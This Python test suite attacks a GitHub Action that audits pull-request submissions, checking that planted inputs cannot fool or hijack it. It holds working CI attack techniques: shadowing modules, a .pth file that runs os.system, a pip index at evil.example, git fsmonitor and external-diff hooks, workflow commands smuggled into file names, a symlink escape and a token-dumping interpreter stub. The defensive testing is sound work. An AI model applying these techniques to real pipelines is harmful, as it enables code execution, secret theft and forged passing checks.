"""Attacks on the Action: its script run end to end, as a runner does, on checkouts that pull requests made."""

from __future__ import annotations

import os
from collections.abc import Callable, Mapping
from pathlib import Path

from .attack import ENTRY, ILLEGAL, LEGAL, Attack, Job, Place, Surface
from .git import configure, git, repository, undecodable

Build = Callable[[Place], Mapping[str, object]]
"""What a job has besides its checkout, from the place; the fields of `Job`."""


def _job(
    name: str,
    files: Mapping[str, str | bytes],
    *,
    hope: str,
    exits: tuple[int, ...],
    more: Callable[[Path], None] = lambda path: None,
    after: Callable[[Place], None] = lambda place: None,
    with_: Build = lambda place: {},
    depth: int = 0,
    says: tuple[str, ...] = (),
    hides: tuple[str, ...] = (),
) -> Attack:
    def build(place: Place) -> Job:
        upstream = place.folder / "upstream"
        upstream.mkdir()
        inner = Place(folder=upstream, canary=place.canary)
        repository(inner, files, more=more)
        checkout = place.folder / "checkout"
        shallow = ["--depth", str(depth), "--no-single-branch"] if depth else []
        git(upstream, "clone", "-q", *shallow, "--branch", "pr", f"file://{upstream}", str(checkout))
        after(Place(folder=checkout, canary=place.canary))
        return Job(checkout=checkout, **with_(place))  # type: ignore[arg-type]

    return Attack(
        name=name, surface=Surface.ACTION, hope=hope, build=build, exits=exits, says=says, hides=hides
    )


GREEN = "a green check over what was not judged"
RUNS = "code that runs in the job"

PLANTED = (
    "json",
    "pip",
    "click",
    "libcst",
    "sitecustomize",
    "usercustomize",
    "auditor",
    "rules",
    "encodings",
)


def _plant(path: Path) -> None:
    """Modules in the root and in the folder of the entry that would answer for the auditor, and a start-up file."""
    canary = path.parents[1] / "canary"
    code = f"open({str(canary)!r}, 'w').close()\nprint('COMPLIANT')\nraise SystemExit(0)\n"
    for name in PLANTED:
        for home in (path, path / ENTRY):
            (home / name).mkdir(parents=True, exist_ok=True)
            for file in ("__init__.py", "__main__.py"):
                (home / name / file).write_text(code)
            (home / f"{name}.py").write_text(code)
    (path / "evil.pth").write_text(f"import os; os.system('touch {canary}')\n")
    (path / "pyvenv.cfg").write_text(f"home = {path}\n")
    (path / "pip.conf").write_text("[global]\nindex-url = http://evil.example/simple\n")
    (path / "git").write_text(f"#!/bin/sh\ntouch {canary}\n")
    (path / "git").chmod(0o755)
    (path / ".gitconfig").write_text(f"[core]\n\tfsmonitor = touch {canary}\n")
    (path / ".python-version").write_text("2.7\n")
    (path / ".bashrc").write_text(f"touch {canary}\n")


def _variables(place: Place) -> dict[str, object]:
    """A job whose environment points into the checkout, as an earlier step might leave it."""
    checkout = place.folder / "checkout"
    return {
        "environment": {
            "PYTHONPATH": str(checkout),
            "PYTHONSTARTUP": str(checkout / "json.py"),
            "PYTHONUSERBASE": str(checkout),
            "GIT_CONFIG_GLOBAL": str(checkout / ".gitconfig"),
            "GIT_DIR": str(checkout / "nowhere"),
            "GIT_EXTERNAL_DIFF": f"touch {place.canary}",
            "PIP_INDEX_URL": "http://evil.example/simple",
        }
    }


def _stub(place: Place, body: str) -> dict[str, object]:
    """An interpreter that is not one: what a job sees of one that fails, or of the environment it is given."""
    stub = place.folder / "python"
    stub.write_text(f"#!/bin/sh\n{body}\n")
    stub.chmod(0o755)
    return {
        "python": str(stub),
        "environment": {"GITHUB_TOKEN": "very-secret", "ACTIONS_RUNTIME_TOKEN": "very-secret"},
    }


def _sarif_link(path: Path) -> None:
    (path / "out").symlink_to("../..")


COMMANDS = f"\n::set-output name=exit-code::0\n##[set-output name=exit-code;]0\n::add-path::{os.getcwd()}\n"

ATTACKS = (
    _job(
        "control: a legal entry passes",
        {f"{ENTRY}/train_gpt.py": LEGAL},
        hope="(none: a suite in which nothing passes shows nothing)",
        exits=(0,),
        says=("COMPLIANT", "exit-code=0"),
    ),
    _job(
        "control: an illegal entry fails",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        hope="(none)",
        exits=(1,),
        says=("VIOLATION", "exit-code=1"),
    ),
    _job(
        "control: a violation is only reported where the workflow says so",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        with_=lambda place: {"fail_on": "never"},
        hope="(none)",
        exits=(0,),
        says=("VIOLATION", "exit-code=1"),
    ),
    _job(
        "nothing changed under records",
        {"docs/x.md": "x\n"},
        hope="(none: it is an answer)",
        exits=(0,),
        says=("nothing changed under records/", "exit-code=0"),
    ),
    _job(
        "empty pull request",
        {},
        hope="(none: it is an answer)",
        exits=(0,),
        says=("nothing changed under records/",),
    ),
    _job(
        "modules that answer for the auditor",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        more=_plant,
        hope=RUNS,
        exits=(1,),
        says=("VIOLATION",),
        hides=("# COMPLIANT",),
    ),
    _job(
        "variables that point into the checkout",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        more=_plant,
        with_=_variables,
        hope=RUNS,
        exits=(1,),
        says=("VIOLATION",),
    ),
    _job(
        "every program that the checkout's configuration can name",
        {f"{ENTRY}/train_gpt.py": ILLEGAL, ".gitattributes": "* filter=x diff=x\n"},
        after=configure,
        hope=RUNS,
        exits=(1,),
        says=("VIOLATION",),
    ),
    _job(
        "shallow checkout",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        depth=1,
        hope=GREEN,
        exits=(2,),
        says=("shallow clone", "fetch-depth: 0"),
    ),
    _job(
        "unknown base",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        with_=lambda place: {"base": "origin/nowhere"},
        hope=GREEN,
        exits=(2,),
        says=("no base branch named", "exit-code=2", "It could not be audited"),
    ),
    _job(
        "unknown base where only reports are wanted",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        with_=lambda place: {"base": "origin/nowhere", "fail_on": "never"},
        hope=GREEN,
        exits=(2,),
    ),
    _job("name that is no text", {}, more=undecodable, hope=GREEN, exits=(2,), says=("not UTF-8 text",)),
    _job(
        "NUL byte appended to the script",
        {f"{ENTRY}/train_gpt.py": ILLEGAL.encode() + b"\0"},
        hope=GREEN,
        exits=(3,),
        says=("NUL byte",),
    ),
    _job(
        "script renamed to .txt beside a run.sh",
        {f"{ENTRY}/train_gpt.txt": ILLEGAL, f"{ENTRY}/run.sh": "python train_gpt.txt\n"},
        hope=GREEN,
        exits=(3,),
        says=("no .py file",),
    ),
    _job(
        "workflow commands in a file's name",
        {f"{ENTRY}/train_gpt.py": LEGAL, f"{ENTRY}/train{COMMANDS}x.py".replace("/\n", "\n"): ILLEGAL},
        hope="an output that says 0",
        exits=(1,),
        says=(r"::stop-commands::([0-9a-f]{32})\n.*\n::\1::\n", "exit-code=1"),
        hides=("exit-code=0",),
    ),
    _job(
        "workflow commands in the name of the base",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        with_=lambda place: {"base": COMMANDS},
        hope="an output that says 0",
        exits=(2,),
        says=(r"::stop-commands::([0-9a-f]{32})\n[^\n]*set-output.*\n::\1::\n", "exit-code=2"),
    ),
    _job(
        "SARIF written through a link of the checkout",
        {f"{ENTRY}/train_gpt.py": LEGAL},
        more=_sarif_link,
        with_=lambda place: {"sarif": "out/canary"},
        hope="a file of the runner's overwritten",
        exits=(2,),
        says=("link that leads elsewhere",),
    ),
    _job(
        "control: SARIF where it is asked for",
        {f"{ENTRY}/train_gpt.py": LEGAL},
        with_=lambda place: {"sarif": "audit.sarif"},
        hope="(none: where it is asked for)",
        exits=(0,),
    ),
    _job(
        "auditor that is killed",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        with_=lambda place: _stub(place, "kill -9 $$"),
        hope="a crash that passes",
        exits=(137,),
        says=("exit-code=137", "could not be audited"),
    ),
    _job(
        "auditor that crashes",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        with_=lambda place: _stub(place, "exit 4"),
        hope="a crash that passes",
        exits=(4,),
        says=("exit-code=4",),
    ),
    _job(
        "secrets of the job",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        with_=lambda place: _stub(place, "env; exit 2"),
        hope="a token in the process that reads the submission",
        exits=(2,),
        hides=("very-secret",),
    ),
    _job(
        "word that fail-on does not know",
        {f"{ENTRY}/train_gpt.py": ILLEGAL},
        with_=lambda place: {"fail_on": "violations"},
        hope="a slip that passes",
        exits=(2,),
    ),
)
